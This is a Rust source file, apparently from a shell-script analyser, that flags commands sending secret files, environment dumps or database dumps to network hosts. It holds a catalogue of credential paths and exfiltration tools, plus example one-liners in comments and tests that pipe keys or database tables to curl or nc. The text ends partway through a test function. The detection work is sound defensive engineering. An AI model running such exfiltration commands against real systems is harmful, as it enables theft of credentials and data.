//! Exfiltration: sensitive data sources, network sinks, and the data flow between them.
//!
//! Facts:
//! - `data.source`: a command outputs (or a sink reads) sensitive data. Attrs `kind`
//!   (`secret_file`, `env_dump`, `db_dump`, `k8s_secret`, `sql_copy_out`), `path` (the file, or
//!   the program for dumps), `program`. (`k8s_secret`, `kubectl get secret -o yaml`, is made by
//!   the kubectl catalog entry's `get` path: `analyze::k8s::secret_read`.)
//! - `net.send`: a command sends data to another host. Attrs `program`, `host`, `method`
//!   (`upload`: a file or stdin as the request body or a copied file; `post`: form or data
//!   fields; `stream`: raw bytes over a socket or a remote shell's stdin; `copy`: scp, rsync,
//!   sftp, cloud storage; `request`: a plain request whose words contain substitutions),
//!   `stdin` (true if what it sends includes its standard input).
//! - `net.exfil`: a `data.source` reaches a `net.send` (made by [`flows`]). Attrs `source`
//!   (the source kind), `path`, `sink` (the sending program), `host`, `method`.
//!
//! Sources and sinks are found per command by [`analyze`] (programs) and by [`flows`]
//! (redirections: `< ~/.ssh/id_rsa`, `> /dev/tcp/HOST/PORT`, bash manual §3.6). [`flows`] then
//! follows data between the commands of one script: through pipes (transitively:
//! `cat key | base64 | curl -d @- URL`), command and process substitutions into another
//! command's words (`curl "URL?k=$(cat key)"`), and files the sink reads itself
//! (`curl -F f=@key URL`, `scp key host:`).

#![deny(clippy::indexing_slicing, clippy::unwrap_used, clippy::expect_used)]

use super::{program_name, Analyzer, Invocation};
use crate::fact::{Fact, Span};
use crate::shell::{Flow, Script, Word};
use std::collections::HashMap;
use std::ops::Range;

/// Programs this module analyses (sources and sinks).
pub const PROGRAMS: &[&str] = &[
    // sources: readers of files
    "cat", "tac", "nl", "base64", "base32", "basenc", "gzip", "bzip2", "xz", "zstd", "lz4", "tar", "zip",
    "7z", "xxd", "od", "hexdump", "head", "tail", "strings", "openssl", "gpg",
    // sources: environment and dumps
    "env", "printenv", "set", "export", "declare", "typeset", "pg_dump", "pg_dumpall", "mysqldump",
    "mariadb-dump", "mongodump", "redis-cli",
    // sinks
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync", "sftp", "ssh", "aws",
    "gsutil",
];

/// Source kinds (`data.source` attr `kind`).
pub const SECRET_FILE: &str = "secret_file";
const ENV_DUMP: &str = "env_dump";
const DB_DUMP: &str = "db_dump";
const SQL_COPY_OUT: &str = "sql_copy_out";

/// Commands whose output does not carry their input (a count or a digest).
const DIGESTS: &[&str] = &["wc", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "sum", "true", "false", "test", "["];

/// Credential stores under the home directory: (path relative to home, whole directory).
/// `.ssh` is handled separately (public keys and config there are not secret).
const HOME_SECRETS: &[(&str, bool)] = &[
    (".aws", true),
    (".config/gcloud", true),
    (".azure", true),
    (".gnupg", true),
    (".password-store", true),
    (".kube/config", false),
    (".docker/config.json", false),
    (".netrc", false),
    (".pgpass", false),
    (".my.cnf", false),
    (".git-credentials", false),
    (".npmrc", false),
    (".pypirc", false),
    (".config/gh/hosts.yml", false),
    (".terraform.d/credentials.tfrc.json", false),
    (".vault-token", false),
];

/// Files in `~/.ssh` that are not secret.
const SSH_PUBLIC: &[&str] = &["config", "known_hosts", "known_hosts.old", "authorized_keys", "authorized_keys2", "environment", "rc"];

/// The path relative to the home directory, if `p` names something in it
/// (`~/x`, `$HOME/x`, `${HOME}/x`, `/home/USER/x`, `/Users/USER/x`, `/root/x`, `~USER/x`).
fn home_relative(p: &str) -> Option<&str> {
    for pre in ["~/", "$HOME/", "${HOME}/", "/root/"] {
        if let Some(r) = p.strip_prefix(pre) {
            return Some(r);
        }
    }
    for pre in ["/home/", "/Users/", "~"] {
        if let Some(r) = p.strip_prefix(pre) {
            return r.split_once('/').map(|(_, rest)| rest);
        }
    }
    None
}

/// The source kind of reading the file `path`, if it holds secrets: private keys, cloud and
/// registry credentials, `.env` files, `/etc/shadow` (kind `secret_file`), or a process
/// environment (`/proc/self/environ`, kind `env_dump`). Globs count when they may match one.
pub fn secret_path(path: &str) -> Option<&'static str> {
    let p = path.trim().trim_start_matches("file://");
    let p = p.strip_prefix("./").unwrap_or(p);
    let p = p.trim_end_matches('/');
    if p.is_empty() {
        return None;
    }
    if let Some(rest) = p.strip_prefix("/proc/")
        && rest.ends_with("/environ") {
            return Some(ENV_DUMP);
        }
    let base = p.rsplit('/').next().unwrap_or(p);
    if let Some(h) = home_relative(p).or(if p == "~" || p == "$HOME" { Some("") } else { None }) {
        let h = h.trim_start_matches("./");
        if h == ".ssh" {
            return Some(SECRET_FILE);
        }
        if let Some(f) = h.strip_prefix(".ssh/") {
            let f = f.rsplit('/').next().unwrap_or(f);
            return (!f.ends_with(".pub") && !SSH_PUBLIC.contains(&f)).then_some(SECRET_FILE);
        }
        for (s, dir) in HOME_SECRETS {
            if h == *s || (*dir && h.starts_with(&format!("{s}/"))) || (!*dir && h.starts_with(&format!("{s}.")) && s.ends_with("config")) {
                return Some(SECRET_FILE);
            }
        }
    }
    if matches!(p, "/etc/shadow" | "/etc/gshadow" | "/etc/shadow-" | "/etc/gshadow-" | "/etc/master.passwd") {
        return Some(SECRET_FILE);
    }
    if let Some(k) = p.strip_prefix("/etc/ssh/") {
        return (k.starts_with("ssh_host_") && k.ends_with("_key")).then_some(SECRET_FILE);
    }
    if base == ".env" || (base.starts_with(".env.") && !matches!(base, ".env.example" | ".env.sample" | ".env.template" | ".env.dist" | ".env.defaults")) {
        return Some(SECRET_FILE);
    }
    if base.ends_with(".pem") || base.ends_with(".key") || base.ends_with(".p12") || base.ends_with(".pfx") || base.ends_with(".ppk") {
        return Some(SECRET_FILE);
    }
    if matches!(base, "id_rsa" | "id_dsa" | "id_ecdsa" | "id_ed25519" | "id_ecdsa_sk" | "id_ed25519_sk") {
        return Some(SECRET_FILE);
    }
    None
}

fn source(a: &mut Analyzer, inv: &Invocation, kind: &str, path: &str, span: Span) {
    a.push(
        Fact::new("data.source", format!("{} reads {path}", inv.name), span)
            .with("kind", kind)
            .with("path", path.to_string())
            .with("program", inv.name.clone()),
    );
}

/// Pushes a `data.source` if the word names a secret file.
fn file_source(a: &mut Analyzer, inv: &Invocation, w: &Word) {
    if let Some(kind) = secret_path(&w.text) {
        source(a, inv, kind, &w.text, w.span);
    }
}

fn sink(a: &mut Analyzer, inv: &Invocation, host: &str, method: &str, stdin: bool) {
    a.push(
        Fact::new("net.send", format!("{} sends to {host}", inv.name), inv.span())
            .with("program", inv.name.clone())
            .with("host", host.to_string())
            .with("method", method)
            .with("stdin", stdin),
    );
}

/// The host of a URL or `[user@]host[:port]`.
pub fn host_of(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let hostport = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let hostport = hostport.rsplit_once('@').map_or(hostport, |(_, h)| h);
    let host = if hostport.starts_with('[') {
        hostport.split_once(']').map_or(hostport, |(h, _)| h).trim_start_matches('[')
    } else {
        hostport.split(':').next().unwrap_or(hostport)
    };
    host.to_string()
}

/// True for a word that names standard input as a file.
fn is_stdin(t: &str) -> bool {
    matches!(t, "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0")
}

/// Analyses one invocation for sources and sinks.
pub fn analyze(a: &mut Analyzer, inv: &Invocation, _depth: usize) {
    let args = inv.args();
    match inv.name.as_str() {
        "env" if args.iter().all(|w| w.text.starts_with('-')) => source(a, inv, ENV_DUMP, "env", inv.span()),
        "printenv" => source(a, inv, ENV_DUMP, "printenv", inv.span()),
        "set" if args.is_empty() => source(a, inv, ENV_DUMP, "set", inv.span()),
        "export" | "declare" | "typeset" if inv.cmd.assignments.is_empty() && args.iter().all(|w| w.text.starts_with('-')) && (args.is_empty() || args.iter().any(|w| w.text.contains(['p', 'x']))) => {
            source(a, inv, ENV_DUMP, &inv.name, inv.span());
        }
        "pg_dump" | "pg_dumpall" | "mysqldump" | "mariadb-dump" => {
            let to_file = args.iter().any(|w| {
                let t = w.text.as_str();
                matches!(t, "-f" | "--file" | "-r" | "--result-file") || t.starts_with("--file=") || t.starts_with("--result-file=")
                    || (t.starts_with("-f") && t.len() > 2 && inv.name.starts_with("pg_"))
            });
            if !to_file {
                source(a, inv, DB_DUMP, &inv.name, inv.span());
            }
        }
        "mongodump" => {
            if args.iter().any(|w| w.text == "--archive" || w.text == "--archive=-") {
                source(a, inv, DB_DUMP, "mongodump", inv.span());
            }
        }
        "redis-cli" => {
            if let Some(i) = args.iter().position(|w| w.text == "--rdb" || w.text == "--functions-rdb")
                && args.get(i + 1).is_some_and(|w| is_stdin(&w.text)) {
                    source(a, inv, DB_DUMP, "redis-cli", inv.span());
                }
        }
        "curl" => curl(a, inv),
        "wget" => wget(a, inv),
        "nc" | "ncat" | "netcat" | "telnet" => {
            let listen = args.iter().any(|w| w.text.starts_with('-') && !w.text.starts_with("--") && w.text.contains('l') || w.text == "--listen");
            let host = if listen {
                "listen".to_string()
            } else {
                let ops = operands(args, "pswqiIOTxXeco", &["proxy", "source", "sh-exec", "exec", "wait", "proxy-type"]);
                ops.first().map(|w| w.text.clone()).unwrap_or_default()
            };
            if !host.is_empty() {
                sink(a, inv, &host, "stream", true);
            }
        }
        "socat" => socat(a, inv),
        "scp" | "rsync" => copy(a, inv),
        "sftp" => sftp(a, inv),
        "ssh" => {
            // The remote command was analysed by unwrap; here ssh itself is the sink of its stdin.
            let has_input = inv.cmd.inputs.iter().any(|i| i.flow == Flow::Pipe)
                || inv.cmd.heredoc.is_some()
                || inv.cmd.redirects.iter().any(|r| r.op == "<" && r.fd.is_none_or(|f| f == 0));
            let no_stdin = args.iter().any(|w| {
                w.text.len() < 6 && w.text.strip_prefix('-').is_some_and(|f| !f.starts_with('-') && f.contains(['n', 'f']))
            });
            if has_input && !no_stdin {
                let ops = operands(args, "bcDEeFIiJLlmOopQRSWw", &[]);
                if let Some(h) = ops.first() {
                    sink(a, inv, &host_of(&h.text), "stream", true);
                }
            }
        }
        "aws" | "gsutil" => cloud_copy(a, inv),
        _ => {
            // Readers of files: cat, base64, tar, ...
            let mut skip_next = false;
            for (i, w) in args.iter().enumerate() {
                if skip_next {
                    skip_next = false;
                    continue;
                }
                let t = w.text.as_str();
                if inv.name == "tar" && (t == "-C" || t == "--directory" || (i == 0 && !t.starts_with('-') && t.contains('x')) || t == "-x" || t == "--extract") {
                    if t == "-C" || t == "--directory" {
                        skip_next = true;
                        continue;
                    }
                    return; // extracting reads an archive, not the named files
                }
                if inv.name == "gpg" && t.starts_with("--export-secret") {
                    source(a, inv, SECRET_FILE, "gpg secret keys", inv.span());
                    return;
                }
                if t.len() > 1 && t.starts_with('-') {
                    // `-in FILE` (openssl), `--file=FILE`
                    if let Some((_, v)) = t.split_once('=') {
                        file_source(a, inv, &Word { text: v.to_string(), ..w.clone() });
                    }
                    continue;
                }
                file_source(a, inv, w);
            }
        }
    }
}

/// Operands of `args`: words that are not options, skipping option values (`short_arg`: short
/// options taking a value; `long_arg`: long ones, unless given as `--opt=value`).
fn operands<'w>(args: &'w [Word], short_arg: &str, long_arg: &[&str]) -> Vec<&'w Word> {
    let mut out = vec![];
    let mut i = 0;
    let mut done = false;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        i += 1;
        if done || t == "-" || !t.starts_with('-') {
            out.push(w);
        } else if t == "--" {
            done = true;
        } else if let Some(l) = t.strip_prefix("--") {
            if !l.contains('=') && long_arg.contains(&l) {
                i += 1;
            }
        } else if let Some((k, c)) = t.strip_prefix('-').and_then(|f| f.char_indices().find(|(_, c)| short_arg.contains(*c)))
            && k + 1 + c.len_utf8() == t.len() {
                i += 1;
            }
    }
    out
}

/// curl(1): `-d/--data*`, `--json`, `-F/--form`, `-T/--upload-file`.
fn curl(a: &mut Analyzer, inv: &Invocation) {
    let args = inv.args();
    const SHORT: &str = "AbcCdDeEFHKmoPQrTtuUwxXyYz";
    const LONG: &[&str] = &[
        "data", "data-ascii", "data-binary", "data-raw", "data-urlencode", "json", "form", "form-string", "upload-file",
        "url", "header", "user", "cookie", "cookie-jar", "output", "request", "referer", "user-agent", "proxy", "config",
        "max-time", "connect-timeout", "retry", "retry-delay", "retry-max-time", "cacert", "cert", "key", "resolve",
        "connect-to", "write-out", "dump-header", "range", "continue-at", "proxy-user", "output-dir", "oauth2-bearer",
        "limit-rate", "max-filesize", "interface", "local-port", "capath", "ciphers", "time-cond", "trace", "trace-ascii",
        "stderr", "variable", "expand-url", "aws-sigv4", "unix-socket", "netrc-file", "telnet-option", "quote", "mail-from", "mail-rcpt",
    ];
    let mut method: Option<&str> = None;
    let mut stdin = false;
    let mut files: Vec<Word> = vec![];
    let mut url: Option<String> = None;
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        i += 1;
        // (option name, value)
        let (opt, value): (String, Option<String>) = if let Some(l) = t.strip_prefix("--") {
            match l.split_once('=') {
                Some((k, v)) => (k.to_string(), Some(v.to_string())),
                None if LONG.contains(&l) => {
                    i += 1;
                    (l.to_string(), args.get(i - 1).map(|w| w.text.clone()))
                }
                None => (l.to_string(), None),
            }
        } else if let Some(flags) = t.strip_prefix('-').filter(|f| !f.is_empty()) {
            match flags.char_indices().find(|(_, c)| SHORT.contains(*c)) {
                Some((k, c)) => {
                    let rest = flags.get(k + c.len_utf8()..).unwrap_or_default();
                    let v = if rest.is_empty() {
                        i += 1;
                        args.get(i - 1).map(|w| w.text.clone())
                    } else {
                        Some(rest.to_string())
                    };
                    (c.to_string(), v)
                }
                None => continue,
            }
        } else {
            if url.is_none() {
                url = Some(t.to_string());
            }
            continue;
        };
        let v = value.unwrap_or_default();
        let file = |v: &str| Word { text: v.to_string(), ..w.clone() };
        match opt.as_str() {
            "d" | "data" | "data-ascii" | "data-binary" | "json" => {
                method.get_or_insert("post");
                if let Some(f) = v.strip_prefix('@') {
                    files.push(file(f));
                }
            }
            "data-urlencode" => {
                method.get_or_insert("post");
                if let Some((name, f)) = v.split_once('@')
                    && !name.contains('=') {
                        files.push(file(f));
                    }
            }
            "data-raw" | "form-string" => {
                method.get_or_insert("post");
            }
            "F" | "form" => {
                method.get_or_insert("post");
                if let Some((_, val)) = v.split_once('=')
                    && let Some(f) = val.strip_prefix('@').or_else(|| val.strip_prefix('<')) {
                        files.push(file(f.split(';').next().unwrap_or(f)));
                    }
            }
            "T" | "upload-file" => {
                method = Some("upload");
                files.push(file(&v));
            }
            "url" => url = url.or(Some(v)),
            _ => {}
        }
    }
    for f in &files {
        if is_stdin(&f.text) || f.text == "." {
            stdin = true;
        } else {
            file_source(a, inv, f);
        }
    }
    let host = url.as_deref().map(host_of).unwrap_or_default();
    match method {
        Some(m) => sink(a, inv, &host, m, stdin),
        None if args.iter().any(|w| w.dynamic) => sink(a, inv, &host, "request", false),
        None => {}
    }
}

/// wget(1): `--post-file`, `--body-file`, `--post-data`, `--body-data`.
fn wget(a: &mut Analyzer, inv: &Invocation) {
    let args = inv.args();
    let mut method = None;
    let mut stdin = false;
    let mut url = None;
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        i += 1;
        let (opt, val) = match t.split_once('=') {
            Some((k, v)) if k.starts_with("--") => (k, Some(v.to_string())),
            _ => (t, None),
        };
        match opt {
            "--post-file" | "--body-file" | "--post-data" | "--body-data" => {
                let v = val.or_else(|| {
                    i += 1;
                    args.get(i - 1).map(|w| w.text.clone())
                });
                method = Some(if opt.ends_with("file") { "upload" } else { "post" });
                if opt.ends_with("file") {
                    let v = v.unwrap_or_default();
                    if is_stdin(&v) {
                        stdin = true;
                    } else {
                        file_source(a, inv, &Word { text: v, ..w.clone() });
                    }
                }
            }
            "-O" | "-o" | "-a" | "-e" | "-P" | "-U" | "-t" | "-T" | "-w" | "-Q" | "-i" | "-B" | "--header" | "--user" | "--password" | "--output-document"
                if val.is_none() => {
                    i += 1;
                }
            _ if !t.starts_with('-') => {
                url = url.or(Some(t.to_string()));
            }
            _ => {}
        }
    }
    let host = url.as_deref().map(host_of).unwrap_or_default();
    match method {
        Some(m) => sink(a, inv, &host, m, stdin),
        None if args.iter().any(|w| w.dynamic) => sink(a, inv, &host, "request", false),
        None => {}
    }
}

/// socat(1): two addresses; a network one makes it a sink, `FILE:`/`OPEN:` reads a file.
fn socat(a: &mut Analyzer, inv: &Invocation) {
    let addrs: Vec<&Word> = inv.args().iter().filter(|w| !w.text.starts_with('-') || w.text == "-").collect();
    let mut host = None;
    let mut stdin = false;
    for w in &addrs {
        let t = w.text.as_str();
        let (ty, rest) = t.split_once([':', ',']).unwrap_or((t, ""));
        match ty.to_ascii_uppercase().as_str() {
            "TCP" | "TCP4" | "TCP6" | "UDP" | "UDP4" | "UDP6" | "OPENSSL" | "SSL" | "TCP-CONNECT" | "UDP-SENDTO" | "SCTP" | "DCCP" => {
                host = Some(rest.split(':').next().unwrap_or(rest).to_string());
            }
            "TCP-LISTEN" | "TCP4-LISTEN" | "TCP6-LISTEN" | "OPENSSL-LISTEN" | "UDP-LISTEN" => host = Some("listen".into()),
            "-" | "STDIN" | "STDIO" => stdin = true,
            "FILE" | "OPEN" | "GOPEN" | "CREATE" => {
                let path = rest.split(',').next().unwrap_or(rest);
                file_source(a, inv, &Word { text: path.to_string(), ..(*w).clone() });
            }
            _ => {}
        }
    }
    if let Some(h) = host {
        sink(a, inv, &h, "stream", stdin);
    }
}

/// The host of an scp/rsync operand if it is remote: `host:path`, `user@host:path`,
/// `host::module`, `rsync://host/...`, `scp://host/...`.
fn remote_host(t: &str) -> Option<String> {
    if t.starts_with("rsync://") || t.starts_with("scp://") || t.starts_with("sftp://") {
        return Some(host_of(t));
    }
    let (before, _) = t.split_once(':')?;
    if before.is_empty() || before.contains('/') {
        return None;
    }
    Some(host_of(before))
}

/// `scp SRC... DEST`, `rsync SRC... DEST` with a remote DEST.
fn copy(a: &mut Analyzer, inv: &Invocation) {
    let args = inv.args();
    let ops = if inv.name == "scp" {
        operands(args, "cFiJloPSXD", &[])
    } else {
        operands(args, "eTBfM", &["rsh", "rsync-path", "exclude", "include", "filter", "exclude-from", "include-from", "files-from", "temp-dir", "compare-dest", "link-dest", "backup-dir", "suffix", "chmod", "chown", "log-file", "password-file", "port", "timeout", "partial-dir"])
    };
    let Some((dest, srcs)) = ops.split_last() else { return };
    let Some(host) = remote_host(&dest.text) else { return };
    for s in srcs {
        if remote_host(&s.text).is_none() {
            file_source(a, inv, s);
        }
    }
    sink(a, inv, &host, "copy", false);
}

/// `sftp [user@]host`: reads its commands from stdin or `-b FILE`; `put LOCAL` uploads.
fn sftp(a: &mut Analyzer, inv: &Invocation) {
    let args = inv.args();
    let ops = operands(args, "BbcDFiJloPRSs", &[]);
    let Some(h) = ops.first() else { return };
    let host = remote_host(&h.text).unwrap_or_else(|| host_of(&h.text));
    if let Ok(Some((text, _))) = a.stdin_text(inv) {
        for line in text.lines() {
            let mut parts = line.split_whitespace();
            if matches!(parts.next(), Some("put" | "mput" | "reput")) {
                for p in parts.filter(|p| !p.starts_with('-')).take(1) {
                    file_source(a, inv, &Word { text: p.to_string(), ..(*h).clone() });
                }
            }
        }
    }
    let stdin = inv.cmd.inputs.iter().any(|i| i.flow == Flow::Pipe) || inv.cmd.heredoc.is_some();
    sink(a, inv, &host, "copy", stdin);
}

/// `aws s3 cp|mv|sync SRC s3://...`, `gsutil cp SRC gs://...`.
fn cloud_copy(a: &mut Analyzer, inv: &Invocation) {
    let args = inv.args();
    const FLAGS: &[&str] = &[
        "--recursive", "--dryrun", "--quiet", "--no-progress", "--follow-symlinks", "--no-follow-symlinks",
        "--only-show-errors", "--delete", "--no-sign-request", "--debug", "--no-verify-ssl", "--exact-timestamps",
        "--size-only", "--no-guess-mime-type", "--force-glacier-transfer",
    ];
    let mut ops: Vec<&Word> = vec![];
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        if t.starts_with("--") && !t.contains('=') && !FLAGS.contains(&t) && args.get(i + 1).is_some_and(|n| !n.text.starts_with('-')) {
            i += 2;
            continue;
        }
        if t == "-" || !t.starts_with('-') {
            ops.push(w);
        }
        i += 1;
    }
    let names: Vec<&str> = ops.iter().map(|w| w.text.as_str()).collect();
    let skip = match (inv.name.as_str(), names.as_slice()) {
        ("aws", ["s3", "cp" | "mv" | "sync", ..]) => 2,
        ("gsutil", ["cp" | "mv" | "rsync", ..]) => 1,
        _ => return,
    };
    let rest = ops.get(skip..).unwrap_or_default();
    let Some((dest, srcs)) = rest.split_last() else { return };
    let remote = |t: &str| t.starts_with("s3://") || t.starts_with("gs://");
    if !remote(&dest.text) {
        return;
    }
    let mut stdin = false;
    for s in srcs {
        if is_stdin(&s.text) {
            stdin = true;
        } else if !remote(&s.text) {
            file_source(a, inv, s);
        }
    }
    sink(a, inv, &host_of(&dest.text), "copy", stdin);
}

/// The host of a `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` path (bash manual §3.6).
fn dev_net_host(t: &str) -> Option<String> {
    let rest = t.strip_prefix("/dev/tcp/").or_else(|| t.strip_prefix("/dev/udp/"))?;
    Some(rest.split('/').next().unwrap_or(rest).to_string())
}

/// Sources flowing into one command.
#[derive(Default, Clone)]
struct Taint {
    /// Fact indices of `data.source` facts whose data is in the command's output.
    out: Vec<usize>,
}

/// True if `text` expands the variable `name` (`$name`, `${name}`, `${name:-x}`).
fn mentions(text: &str, name: &str) -> bool {
    text.match_indices('$').any(|(i, _)| {
        // `$` is one byte, so `i + 1` is a character boundary.
        let rest = text.get(i + 1..).unwrap_or_default();
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        rest.strip_prefix(name).is_some_and(|r| !r.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
    })
}

fn add(v: &mut Vec<usize>, items: &[usize]) {
    for &i in items {
        if !v.contains(&i) && v.len() < 16 {
            v.push(i);
        }
    }
}

/// Follows data from sources to sinks across the commands of `sc` (see the module docs) and
/// pushes a `net.exfil` fact for each source that reaches a sink. `ranges[i]` is the range of
/// facts command `i` produced. Producers precede their consumers in `sc.commands` (pipes are
/// built left to right, substitutions before the command that consumes them), so one forward
/// pass suffices.
pub fn flows(a: &mut Analyzer, sc: &Script, ranges: &[Range<usize>]) {
    // Commands with their fact ranges (the shorter of the two lists decides how many).
    let commands: Vec<(&crate::shell::Command, &Range<usize>)> = sc.commands.iter().zip(ranges).collect();
    // Redirections: `< SECRET` is a source, `> /dev/tcp/...` (or a descriptor opened on one
    // by `exec 3<>/dev/tcp/...`) a sink. Sources made here count for the command itself.
    // One entry per command of `commands`.
    let mut redirect_sources: Vec<Vec<usize>> = Vec::with_capacity(commands.len());
    let mut redirect_sinks: Vec<Vec<usize>> = Vec::with_capacity(commands.len());
    let mut sockets: HashMap<String, String> = HashMap::new();
    for (cmd, _) in &commands {
        let (mut cmd_sources, mut cmd_sinks) = (vec![], vec![]);
        let prog = cmd.words.first().map(|w| program_name(&w.text).to_string()).unwrap_or_default();
        for r in &cmd.redirects {
            let t = &r.target;
            let reads = r.op == "<" || r.op == "<>";
            if let Some(host) = dev_net_host(&t.text) {
                if prog == "exec" || prog.is_empty() {
                    sockets.insert(r.fd.map_or_else(|| "1".to_string(), |f| f.to_string()), host.clone());
                }
                if !reads || r.op == "<>" {
                    let label = if prog.is_empty() { "exec".to_string() } else { prog.clone() };
                    a.push(
                        Fact::new("net.send", format!("{label} writes to {}", t.text), t.span)
                            .with("program", label)
                            .with("host", host)
                            .with("method", "stream")
                            .with("stdin", false),
                    );
                    cmd_sinks.push(a.facts.len() - 1);
                }
            } else if let Some(host) = sockets.get(&t.text).filter(|_| r.op == ">&").cloned() {
                a.push(
                    Fact::new("net.send", format!("{prog} writes to a socket on {host}"), t.span)
                        .with("program", prog.clone())
                        .with("host", host)
                        .with("method", "stream")
                        .with("stdin", false),
                );
                cmd_sinks.push(a.facts.len() - 1);
            } else if reads && r.fd.is_none_or(|f| f == 0)
                && let Some(kind) = secret_path(&t.text) {
                    a.push(
                        Fact::new("data.source", format!("{prog} reads {}", t.text), t.span)
                            .with("kind", kind)
                            .with("path", t.text.clone())
                            .with("program", prog.clone()),
                    );
                    cmd_sources.push(a.facts.len() - 1);
                }
        }
        redirect_sources.push(cmd_sources);
        redirect_sinks.push(cmd_sinks);
    }
    // What each command outputs (one entry per command already seen), and what reaches each sink.
    let mut taint: Vec<Taint> = Vec::with_capacity(commands.len());
    let mut exfil: Vec<(usize, usize)> = vec![];
    // Variables assigned a substitution whose output carries sources (`K=$(cat key)`).
    let mut vars: Vec<(String, Vec<usize>)> = vec![];
    let redirects = redirect_sources.iter().zip(&redirect_sinks);
    for (i, ((cmd, range), (cmd_sources, cmd_sinks))) in commands.iter().zip(redirects).enumerate() {
        if cmd.persistent_assignments {
            for (name, w) in &cmd.assignments {
                let mut srcs = vec![];
                // Substitutions are parsed just before the command holding them.
                for (c, t) in commands.iter().zip(&taint).rev().take(64) {
                    if w.dynamic && c.0.span.start >= w.span.start && c.0.span.end <= w.span.end {
                        add(&mut srcs, &t.out);
                    }
                }
                vars.retain(|(v, _)| v != name);
                if !srcs.is_empty() {
                    vars.push((name.clone(), srcs));
                }
            }
        }
        let prog = cmd.words.first().map(|w| program_name(&w.text)).unwrap_or("");
        // `own`: sources the command itself reads (the sink pairs with these); `out`: also those
        // of scripts nested in it (`sh -c 'cat key' | nc h 1`), which reach its output.
        let mut own: Vec<usize> = cmd_sources.clone();
        let mut out: Vec<usize> = cmd_sources.clone();
        let mut sinks: Vec<usize> = vec![];
        for f in (*range).clone() {
            let nested = a.in_nested_script(f, range.start);
            let Some(fact) = a.facts.get(f) else { continue };
            let src = match fact.kind.as_str() {
                "data.source" => Some(f),
                "net.send" if !nested => {
                    sinks.push(f);
                    None
                }
                "sql.copy" if fact.attrs.get("target").and_then(|v| v.as_str()).is_some_and(|t| t.eq_ignore_ascii_case("stdout")) => {
                    let s = Fact::new("data.source", format!("COPY ... TO STDOUT: {}", fact.summary), fact.span)
                        .with("kind", SQL_COPY_OUT)
                        .with("path", fact.summary.clone())
                        .with("program", prog.to_string());
                    a.push(s);
                    Some(a.facts.len() - 1)
                }
                _ => None,
            };
            if let Some(s) = src {
                out.push(s);
                if !nested {
                    own.push(s);
                }
            }
        }
        let mut piped: Vec<usize> = vec![];
        let mut substituted: Vec<usize> = vec![];
        for input in &cmd.inputs {
            // `taint` holds the commands before this one, so later ones are not found.
            let Some(from) = taint.get(input.from).map(|t| t.out.as_slice()) else { continue };
            match input.flow {
                Flow::Pipe => add(&mut piped, from),
                Flow::Substitution => add(&mut substituted, from),
            }
        }
        for (name, srcs) in &vars {
            if cmd.words.iter().chain(cmd.redirects.iter().map(|r| &r.target)).any(|w| w.dynamic && mentions(&w.text, name)) {
                add(&mut substituted, srcs);
            }
        }
        if !DIGESTS.contains(&prog) {
            add(&mut out, &piped);
            add(&mut out, &substituted);
        }
        for &s in &sinks {
            let reads_stdin = a.facts.get(s).and_then(|f| f.attrs.get("stdin")).and_then(|v| v.as_bool()).unwrap_or(false);
            let mut reach: Vec<usize> = substituted.clone();
            add(&mut reach, cmd_sources);
            if reads_stdin {
                add(&mut reach, &piped);
            }
            // Files the sink reads itself (not those of a nested script: for ssh, that is the
            // remote command, reading the remote host's files).
            add(&mut reach, &own);
            exfil.extend(reach.into_iter().map(|src| (src, s)));
        }
        for &s in cmd_sinks {
            exfil.extend(out.iter().map(|&src| (src, s)));
        }
        debug_assert_eq!(taint.len(), i);
        taint.push(Taint { out });
    }
    exfil.dedup();
    for (src, s) in exfil {
        // Both are indices of facts pushed above; a missing one cannot be described.
        let (Some(source), Some(sink)) = (a.facts.get(src), a.facts.get(s)) else { continue };
        let get = |f: &Fact, k: &str| f.attrs.get(k).and_then(|v| v.as_str()).unwrap_or("").to_string();
        let span = Span::new(source.span.start.min(sink.span.start), source.span.end.max(sink.span.end));
        let fact = Fact::new(
            "net.exfil",
            format!("{} ({}) reaches {} sending to {}", get(source, "path"), get(source, "kind"), get(sink, "program"), get(sink, "host")),
            span,
        )
        .with("source", get(source, "kind"))
        .with("path", get(source, "path"))
        .with("sink", get(sink, "program"))
        .with("host", get(sink, "host"))
        .with("method", get(sink, "method"));
        a.push(fact);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secret_paths() {
        for p in [
            "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "$HOME/.ssh/deploy", "~/.ssh/*", "~/.ssh", "/home/al/.ssh/id_rsa",
            "~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json", "~/.kube/config",
            "~/.docker/config.json", "~/.netrc", "~/.pgpass", ".env", "./.env.production", "app/.env", "/etc/shadow",
            "server.pem", "tls/server.key", "/root/.aws/credentials", "id_rsa",
        ] {
            assert!(secret_path(p).is_some(), "{p}");
        }
        for p in ["~/.ssh/id_rsa.pub", "~/.ssh/config", "~/.ssh/known_hosts", ".env.example", "/etc/passwd", "README.md", "~/.kube/cache/x", "env.txt"] {
            assert!(secret_path(p).is_none(), "{p}");
        }
        assert_eq!(secret_path("/proc/self/environ"), Some("env_dump"));
    }

    #[test]
    fn hosts() {
        assert_eq!(host_of("https://u:p@x.example:8080/a?b"), "x.example");
        assert_eq!(remote_host("user@h:/tmp").as_deref(), Some("h"));
        assert_eq!(remote_host("./a:b"), None);
        assert_eq!(remote_host("build.tar.gz"), None);
    }

    #[test]
    fn copy_out_is_a_source() {
        let text = "psql -c 'COPY users TO STDOUT' | nc h 1";
        let sc = crate::shell::parse(text, crate::shell::SpanMap::top(text.len()));
        let mut a = Analyzer::new(std::path::Path::new("/"));
        a.push(Fact::new("sql.copy", "COPY users TO STDOUT", Span::new(0, 10)).with("target", "stdout"));
